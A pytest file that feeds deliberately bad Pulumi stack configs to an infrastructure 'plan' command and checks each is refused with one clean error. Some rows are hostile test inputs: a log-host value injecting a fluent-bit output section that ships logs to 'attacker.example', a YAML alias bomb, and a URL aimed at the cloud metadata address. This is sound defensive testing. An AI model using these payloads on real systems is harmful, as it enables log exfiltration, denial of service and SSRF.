"""Bad stack files, as an operator would write them: `ops plan` exits non-zero with one line
naming the stack and the key, no traceback, and nothing is declared.

Each row is a stack file edit on a copy of the project (the hidden `ops plan --root`).
One table per family of settings: add a row to the table of the family you extend.
"""

from __future__ import annotations

import shutil
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from offline.engine import PlanError, run_plan
from offline.stack_config import ROOT
from ops.cli import main


@dataclass(frozen=True)
class BadStack:
    what: str  # the bad input, as the issue names it
    stack: str
    key: str  # what the message must name besides the stack
    problem: str  # a fragment of the message
    config: Mapping[str, Any] = field(default_factory=dict)  # keys set on top of the real stack file
    remove: tuple[str, ...] = ()  # keys taken out of it
    text: str | None = None  # or the whole stack file, verbatim
    raw: bytes | None = None  # or its bytes, for encodings
    project: Callable[[dict[str, Any]], None] | None = None  # an edit of Pulumi.yaml


def _drop_default(key: str) -> Callable[[dict[str, Any]], None]:
    def edit(project: dict[str, Any]) -> None:
        project["config"][key].pop("default")

    return edit


FOUNDATION = [
    BadStack(
        "unknown region", "staging", "marketplace:regions", "unknown region 'mars1'",
        {"marketplace:regions": ["nyc3", "mars1"]},
    ),
    BadStack(
        "duplicated region", "production", "marketplace:regions", "region 'nyc3' is listed twice",
        {"marketplace:regions": ["nyc3", "fra1", "nyc3"]},
    ),
    BadStack("empty region list", "dev", "marketplace:regions", "is empty", {"marketplace:regions": []}),
    BadStack(
        "minNodes below 1", "staging", "marketplace:nodePool.minNodes", "must be at least 1, got 0",
        {"marketplace:nodePool": {"size": "s-2vcpu-4gb", "minNodes": 0, "maxNodes": 4}},
    ),
    BadStack(
        "minNodes above maxNodes", "production", "marketplace:nodePool.minNodes", "(6) must not be above nodePool.maxNodes (4)",
        {"marketplace:nodePool": {"size": "s-4vcpu-8gb", "minNodes": 6, "maxNodes": 4}},
    ),
    BadStack(
        "unknown droplet size", "dev-alice", "marketplace:nodePool.size", "unknown droplet size 's-64vcpu-1tb'",
        {"marketplace:nodePool": {"size": "s-64vcpu-1tb"}},
    ),
    BadStack(
        "malformed version", "staging", "marketplace:kubernetesVersion", "must be an exact DOKS version",
        {"marketplace:kubernetesVersion": "1.33.2"},
    ),
    BadStack(
        "a minor the version table does not know", "dev", "marketplace:kubernetesVersion",
        "Kubernetes 1.99 is not in data/kubernetes-versions.yaml",
        {"marketplace:kubernetesVersion": "1.99.0-do.0"},
    ),
    BadStack(
        "a minor past its end of life", "dev", "marketplace:kubernetesVersion",
        "Kubernetes 1.33 reached its end of life on 2026-06-28",
        {"marketplace:kubernetesVersion": "1.33.9-do.3"},
    ),
    BadStack(
        "malformed domain", "production", "marketplace:domain", "must be a lowercase DNS name",
        {"marketplace:domain": "Catalog..Example.com"},
    ),
    BadStack(
        "domain outside the zone", "production", "marketplace:domain", "is not inside the Cloudflare zone 'example.com'",
        {"marketplace:domain": "catalog.example.org"},
    ),
    BadStack(
        "empty Cloudflare id", "production", "marketplace:cloudflareZoneId", "is missing: this stack needs a Cloudflare id",
        {"marketplace:cloudflareZoneId": ""},
    ),
    BadStack(
        "malformed Cloudflare id", "staging", "marketplace:cloudflareAccountId", "must be 32 lowercase hex digits",
        {"marketplace:cloudflareAccountId": "not-an-id"},
    ),
    BadStack(
        "Cloudflare id nowhere (no default, not in the stack)", "staging", "cloudflareZoneId",
        "is missing configuration value 'cloudflareZoneId'", project=_drop_default("cloudflareZoneId"),
    ),
    BadStack(
        "stack file that is not valid YAML", "staging", "Pulumi.staging.yaml", "is not valid YAML",
        text="config:\n  marketplace:regions: [nyc3\n",
    ),
    BadStack(
        "stack file without a config mapping", "dev", "Pulumi.dev.yaml", "must be a mapping with a 'config' mapping",
        text="config:\n  - marketplace:regions\n",
    ),
    BadStack(
        "misspelled config key", "production", "marketplace:nodepool", "did you mean 'marketplace:nodePool'?",
        {"marketplace:nodepool": {"size": "s-4vcpu-8gb"}},
    ),
    BadStack("key without namespace", "dev", "'regions'", "must be namespaced", {"regions": ["nyc3"]}),
    BadStack(
        "list key given a string", "staging", "marketplace:controlPlaneAllowList", "must be of type 'array'",
        {"marketplace:controlPlaneAllowList": "203.0.113.0/24"},
    ),
    BadStack(
        "control plane open to the internet in production", "production", "marketplace:controlPlaneAllowList",
        "opens the Kubernetes API to the whole internet", {"marketplace:controlPlaneAllowList": ["0.0.0.0/0"]},
    ),
    BadStack(
        "secret stored in plain text", "dev", "marketplace:kubernetesApiToken", "is a secret but is stored in plain text",
        {"marketplace:kubernetesApiToken": "dop_v1_plain"},
    ),
    BadStack(
        "unknown maintenance day", "production", "marketplace:maintenanceWindow.day", "must be one of",
        {"marketplace:maintenanceWindow": {"day": "someday", "startTime": "04:00"}},
    ),
]  # fmt: skip

# Keys of the workloads branch (catalog web/api, gateway, images): they run once
# components.settings.workloads.WorkloadSettings has fields.
WORKLOADS = [
    BadStack(
        "image on a moving tag", "dev", "marketplace:images.web", "latest",
        {"marketplace:images": {"web": "registry.digitalocean.com/marketplace/catalog-web:latest"}},
    ),
    BadStack(
        "gateway without replicas", "staging", "marketplace:gateway.replicas", "must be between 1 and 20",
        {"marketplace:gateway": {"replicas": 0}},
    ),
    BadStack(
        "staging without its catalog API key", "staging", "marketplace:catalogApiKey", "is missing",
        remove=("marketplace:catalogApiKey",),
    ),
]  # fmt: skip

# Keys of the edge branch (Cloudflare load balancer, monitor, pools).
EDGE = [
    BadStack(
        "unknown steering policy", "production", "marketplace:steeringPolicy", "unknown steering policy 'round_robin'",
        {"marketplace:steeringPolicy": "round_robin"},
    ),
    BadStack(
        "fallback region the stack does not run", "staging", "marketplace:fallbackRegion", "is not one of this stack's regions",
        {"marketplace:fallbackRegion": "syd1"},
    ),
    BadStack(
        "load-balancer key on a personal stack", "dev-alice", "marketplace:fallbackRegion",
        "personal stacks have no load balancer",
        {"marketplace:fallbackRegion": "nyc3"},
    ),
]  # fmt: skip

# Keys of observability (log store, hub region, alert destinations).
OBSERVABILITY = [
    BadStack(
        "log store size not offered with its node count", "production", "marketplace:logStore.size",
        "'db-s-1vcpu-2gb' is not offered with 3 node(s)",
        {"marketplace:logStore": {"size": "db-s-1vcpu-2gb", "nodeCount": 3}},
    ),
    BadStack(
        "hub region the stack does not run", "staging", "marketplace:observabilityRegion",
        "'syd1' is not one of the stack's regions", {"marketplace:observabilityRegion": "syd1"},
    ),
    BadStack(
        "alert webhook in plain text", "staging", "marketplace:alertWebhookUrl", "is a secret but is stored in plain text",
        {"marketplace:alertWebhookUrl": "https://hooks.slack.com/services/T0/B0/x"},
    ),
    BadStack(
        "Slack channel without its webhook", "production", "marketplace:alerting.slackChannel", "needs the Slack webhook",
        {"marketplace:alerting": {"slackChannel": "#catalog-alerts"}},
    ),
    BadStack(
        "log shipping to an undeclared endpoint", "dev", "marketplace:logShipping", "is no longer read",
        {"marketplace:logShipping": {"host": "logs.example.com"}},
    ),
]  # fmt: skip


def _file(*lines: str) -> str:
    return "\n".join(("config:", *(f"  {line}" for line in lines))) + "\n"


def _generation(**fields: Any) -> dict[str, Any]:
    return {"marketplace:generations": {"nyc3": [{"name": "blue", "weight": 1, **fields}]}}


# Stack files that used to end in a Python traceback, one row per root cause.
TRACEBACKS = [
    BadStack(
        "5,000-digit integer", "dev", "Pulumi.dev.yaml", "a number of 5000 characters",
        text=_file("marketplace:networkBlock: " + "9" * 5000),
    ),
    BadStack(
        "5,000-digit integer inside an object", "dev", "Pulumi.dev.yaml", "a number of 5000 characters",
        text=_file("marketplace:nodePool: {minNodes: " + "1" * 5000 + "}"),
    ),
    BadStack(
        "list where a generation's node size goes", "dev", "marketplace:generations.nyc3[0].nodeSize",
        'unknown droplet size ["s-2vcpu-4gb"]', _generation(nodeSize=["s-2vcpu-4gb"]),
    ),
    BadStack(
        "object where a generation's node size goes", "dev", "marketplace:generations.nyc3[0].nodeSize",
        "unknown droplet size", _generation(nodeSize={"size": "s-2vcpu-4gb"}),
    ),
    BadStack("integer config key", "dev", "config key 12", "is not text", text=_file("12: nyc3")),
    BadStack("boolean config key", "dev", "config key True", "is not text", text=_file("true: nyc3")),
    BadStack("null config key", "dev", "config key None", "is not text", text=_file("~: nyc3")),
    BadStack(
        "date inside an object", "dev", "marketplace:maintenanceWindow.startTime", "a date (2026-12-06) is not a config value",
        text=_file("marketplace:maintenanceWindow: {startTime: !!timestamp 2026-12-06}"),
    ),
    BadStack(
        "binary inside an object", "dev", "marketplace:nodePool.size", "binary data (!!binary)",
        text=_file("marketplace:nodePool: {size: !!binary czJ2Y3B1}"),
    ),
    BadStack(
        "non-text key inside an object", "dev", "marketplace:nodePool", "the key 1 is not text",
        text=_file("marketplace:nodePool: {1: s-2vcpu-4gb}"),
    ),
    BadStack(
        "stack file with invalid UTF-8", "dev", "Pulumi.dev.yaml", "is not UTF-8 or UTF-16 text (byte 0xff",
        raw=b"config:\n  marketplace:domain: catalog\xff.example.com\n",
    ),
    BadStack(
        "stack file in UTF-16 without a byte-order mark", "dev", "Pulumi.dev.yaml", "control character U+0000",
        raw="config:\n  marketplace:regions: [nyc3]\n".encode("utf-16-le"),
    ),
    BadStack(
        "list nested a thousand deep", "dev", "Pulumi.dev.yaml", "nests deeper than 64 levels",
        text=_file("marketplace:regions: " + "[" * 1000 + "]" * 1000),
    ),
]  # fmt: skip

_BOMB = "\n".join(
    [f"x0: &x0 [{', '.join(['lol'] * 10)}]"]
    + [f"x{n}: &x{n} [{', '.join([f'*x{n - 1}'] * 10)}]" for n in range(1, 9)]
    + ["config:", "  marketplace:regions: *x8"]
)

# Stack files that used to plan although a real deploy would be wrong, fail or unsafe.
ACCEPTED_THOUGH_BAD = [
    BadStack(
        "production API open to all through two /1 blocks", "production", "marketplace:controlPlaneAllowList",
        "0.0.0.0/1, 128.0.0.0/1 together admit 100% of all IPv4 addresses",
        {"marketplace:controlPlaneAllowList": ["0.0.0.0/1", "128.0.0.0/1"]},
    ),
    BadStack(
        "production API open to all through four /2 blocks", "production", "marketplace:controlPlaneAllowList",
        "together admit 100% of all IPv4 addresses",
        {"marketplace:controlPlaneAllowList": ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"]},
    ),
    BadStack(
        "production API open to all through two IPv6 /1 blocks", "production", "marketplace:controlPlaneAllowList",
        "::/1, 8000::/1 together admit 100% of all IPv6 addresses",
        {"marketplace:controlPlaneAllowList": ["::/1", "8000::/1"]},
    ),
    # The key is refused outright: logs go to the stack's own store, and no configured host
    # ever reaches fluent-bit's configuration.
    BadStack(
        "log host that writes its own fluent-bit section", "dev", "marketplace:logShipping", "is no longer read",
        {"marketplace:logShipping": {"host": "logs.example.com\n[OUTPUT]\n    Name http\n    Host attacker.example"}},
    ),
    BadStack(
        "log host with a space", "dev", "marketplace:logShipping", "is no longer read",
        {"marketplace:logShipping": {"host": "logs example.com"}},
    ),
    BadStack(
        "domain with an Arabic-Indic digit", "production", "marketplace:domain", "is not plain ASCII",
        {"marketplace:domain": "catalog\u0663.example.com"},
    ),
    BadStack(
        "start time with Arabic-Indic digits", "production", "marketplace:maintenanceWindow.startTime", "must be HH:MM",
        {"marketplace:maintenanceWindow": {"day": "sunday", "startTime": "0\u0664:00"}},
    ),
    BadStack(
        "CPU quantity with a trailing newline", "dev", "marketplace:workloads.web.cpuRequest", "must be a CPU quantity",
        {"marketplace:workloads": {"web": {"cpuRequest": "100m\n"}}},
    ),
    BadStack(
        "memory quantity with Arabic-Indic digits", "dev", "marketplace:workloads.api.memoryRequest",
        "must be a memory quantity", {"marketplace:workloads": {"api": {"memoryRequest": "\u0661\u0662\u0668Mi"}}},
    ),
    BadStack(
        "expected codes with a trailing newline", "staging", "marketplace:healthMonitor.expectedCodes",
        "must be one HTTP status code", {"marketplace:healthMonitor": {"expectedCodes": "200\n"}},
    ),
    BadStack(
        "image registry port in Arabic-Indic digits", "dev", "marketplace:images.api", "is not an image reference",
        {"marketplace:images": {"api": "registry.example.com:\u0665\u0660\u0660\u0660/catalog-api:1.0.0"}},
    ),
    BadStack(
        "generation version with an Arabic-Indic digit", "dev", "marketplace:generations.nyc3[0].kubernetesVersion",
        "must be an exact DOKS version", _generation(kubernetesVersion="1.3\u0666.1-do.0"),
    ),
    BadStack(
        "10,000-character domain", "production", "marketplace:domain", "a DNS name has at most 253",
        {"marketplace:domain": "a" * 9988 + ".example.com"},
    ),
    BadStack(
        "64-character DNS label", "production", "marketplace:domain", "a DNS label has at most 63",
        {"marketplace:domain": "a" * 64 + ".example.com"},
    ),
    BadStack(
        "hostname too long for the certificate's common name", "staging", "marketplace:hostname",
        "longer than the 64 characters the origin certificate's common name holds",
        {"marketplace:hostname": "a" * 53 + ".example.com"},
    ),
    BadStack(
        "1-byte memory request", "dev", "marketplace:workloads.web.memoryRequest", "is below 6Mi",
        {"marketplace:workloads": {"web": {"memoryRequest": "1", "memoryLimit": "1"}}},
    ),
    BadStack(
        "1,000 cores on 2-core nodes", "dev", "marketplace:workloads.api.cpuLimit",
        "(1000) does not fit on a s-2vcpu-4gb node, which offers pods 2000m",
        {"marketplace:workloads": {"api": {"cpuLimit": "1000"}}},
    ),
    BadStack(
        "1 TiB on 8 GB nodes", "production", "marketplace:workloads.api.memoryLimit",
        "(1Ti) does not fit on a s-4vcpu-8gb node", {"marketplace:workloads": {"api": {"memoryLimit": "1Ti"}}},
    ),
    BadStack(
        "production's replicas on one small node", "production", "marketplace:workloads",
        "more than 1 s-1vcpu-2gb node(s) (nodePool.maxNodes) offer pods",
        {"marketplace:nodePool": {"size": "s-1vcpu-2gb", "minNodes": 1, "maxNodes": 1}},
    ),
    BadStack(
        "catalog service on port 0", "staging", "marketplace:catalogServiceUrl", "has port 0",
        {"marketplace:catalogServiceUrl": "https://sandbox.catalog-service.example.com:0/v1"},
    ),
    BadStack(
        "catalog service at the metadata address", "staging", "marketplace:catalogServiceUrl",
        "169.254.169.254 is a private, loopback, link-local or reserved address",
        {"marketplace:catalogServiceUrl": "https://169.254.169.254/metadata/v1"},
    ),
    BadStack(
        "catalog service at a private address", "production", "marketplace:catalogServiceUrl",
        "must point at a public host", {"marketplace:catalogServiceUrl": "https://10.20.0.5"},
    ),
    BadStack(
        "catalog service host with a space", "dev", "marketplace:catalogServiceUrl", "without spaces",
        {"marketplace:catalogServiceUrl": "https://sandbox.catalog service.example.com"},
    ),
    BadStack(
        "production on dev's network block", "production", "marketplace:networkBlock",
        "block 2 is reserved for the dev stack", {"marketplace:networkBlock": 2},
    ),
    BadStack(
        "personal stack on production's network block", "dev-alice", "marketplace:networkBlock",
        "block 0 is reserved for the production stack; this stack may take 3..63", {"marketplace:networkBlock": 0},
    ),
    BadStack(
        "misspelled namespace", "production", "marketplac:regions", "unknown namespace 'marketplac'",
        {"marketplac:regions": ["nyc3"]},
    ),
    BadStack(
        "capitalised namespace", "production", "Marketplace:nodePool", "did you mean 'marketplace'?",
        {"Marketplace:nodePool": {"size": "s-1vcpu-2gb"}},
    ),
    BadStack(
        "duplicate key", "production", "Pulumi.production.yaml", "found the key 'marketplace:regions' twice",
        text=_file("marketplace:regions: [sfo3, nyc3]", "marketplace:regions: [nyc3]"),
    ),
    BadStack(
        "duplicate field inside an object", "staging", "Pulumi.staging.yaml", "found the key 'size' twice",
        text=_file("marketplace:nodePool: {size: s-2vcpu-4gb, size: s-1vcpu-2gb}"),
    ),
    BadStack(
        "alias bomb", "dev", "Pulumi.dev.yaml", "expands to more than 20000 values", text=_BOMB,
    ),
    BadStack(
        "alias that contains itself", "dev", "Pulumi.dev.yaml", "refers to a node that contains it",
        text=_file("marketplace:regions: &loop [*loop]"),
    ),
    BadStack(
        "secure value that is a number", "staging", "marketplace:catalogApiKey", "a secure value must be the ciphertext",
        {"marketplace:catalogApiKey": {"secure": 5}},
    ),
    BadStack(
        "empty secure value", "staging", "marketplace:catalogApiKey", "a secure value must be the ciphertext",
        {"marketplace:catalogApiKey": {"secure": ""}},
    ),
    BadStack(
        "secure value that is a list", "dev", "marketplace:kubernetesApiToken", "a secure value must be the ciphertext",
        {"marketplace:kubernetesApiToken": {"secure": ["v1:AAAA"]}},
    ),
    BadStack(
        "default Cloudflare provider disabled", "production", "pulumi:disable-default-providers",
        "disables the cloudflare default provider", {"pulumi:disable-default-providers": ["kubernetes", "cloudflare"]},
    ),
    BadStack(
        "default TLS provider disabled", "dev", "pulumi:disable-default-providers",
        "disables the tls default provider", {"pulumi:disable-default-providers": ["tls"]},
    ),
    BadStack(
        "every default provider disabled", "staging", "pulumi:disable-default-providers",
        "disables every default provider", {"pulumi:disable-default-providers": ["*"]},
    ),
]  # fmt: skip

# How messages show values: YAML's own words, shortened, with the fix when quotes are the problem.
MESSAGES = [
    BadStack(
        "YAML null shown as null", "dev", "marketplace:nodePool.size", "must be a string, got null",
        {"marketplace:nodePool": {"size": None}},
    ),
    BadStack(
        "number written as text", "staging", "marketplace:nodePool.maxNodes", "got '4': remove the quotes",
        {"marketplace:nodePool": {"size": "s-2vcpu-4gb", "minNodes": 2, "maxNodes": "4"}},
    ),
    BadStack(
        "version that YAML read as a number", "dev", "marketplace:generations.nyc3[0].kubernetesVersion",
        "got 1.3: quote it", text=_file("marketplace:generations: {nyc3: [{name: blue, weight: 1, kubernetesVersion: 1.30}]}"),
    ),
    BadStack(
        "long value shortened", "dev", "marketplace:images.web", ":latest' (5028 characters) is not an image reference",
        {"marketplace:images": {"web": "registry.example.com/" + "a" * 5000 + ":latest\n"}},
    ),
]  # fmt: skip

TABLES = (*FOUNDATION, *WORKLOADS, *EDGE, *OBSERVABILITY, *TRACEBACKS, *ACCEPTED_THOUGH_BAD, *MESSAGES)
ROWS = [pytest.param(row, id=row.what) for row in TABLES]


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the project's entry points; each row writes its own stack file there."""
    root = tmp_path_factory.mktemp("project")
    shutil.copy(ROOT / "__main__.py", root / "__main__.py")
    return root


def write(root: Path, row: BadStack) -> None:
    project = yaml.safe_load((ROOT / "Pulumi.yaml").read_text())
    if row.project:
        row.project(project)
    (root / "Pulumi.yaml").write_text(yaml.safe_dump(project, sort_keys=False))
    for old in root.glob("Pulumi.*.yaml"):
        if old.name != "Pulumi.yaml":
            old.unlink()
    stack_file = root / f"Pulumi.{row.stack}.yaml"
    if row.raw is not None:
        stack_file.write_bytes(row.raw)
        return
    if row.text is not None:
        stack_file.write_text(row.text)
        return
    real = ROOT / f"Pulumi.{row.stack}.yaml"
    document = (yaml.safe_load(real.read_text()) if real.exists() else None) or {}
    config = {key: value for key, value in (document.get("config") or {}).items() if key not in row.remove}
    config.update(row.config)
    stack_file.write_text(yaml.safe_dump({"config": config}, sort_keys=False))


@pytest.mark.parametrize("row", ROWS)
def test_a_bad_stack_is_refused_with_one_message_and_nothing_declared(
    row: BadStack, project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(sys, "path", list(sys.path))  # run_plan puts the project root on it
    write(project, row)
    assert main(["plan", "--stack", row.stack, "--root", str(project)]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    [message] = lines
    assert message.startswith("error: ") and "Traceback" not in err
    assert f"'{row.stack}'" in message and row.key in message and row.problem in message, message
    assert len(message) < 600, "long values are shortened"

    with pytest.raises(PlanError) as refused:
        run_plan(row.stack, root=project)
    assert refused.value.declared == 0, f"{refused.value.declared} resources declared before: {refused.value}"


def test_every_table_row_names_a_feature_that_exists():
    for row in TABLES:
        replaced = row.text is not None or row.raw is not None
        assert not replaced or not (row.config or row.remove), f"{row.what}: text replaces the whole file"
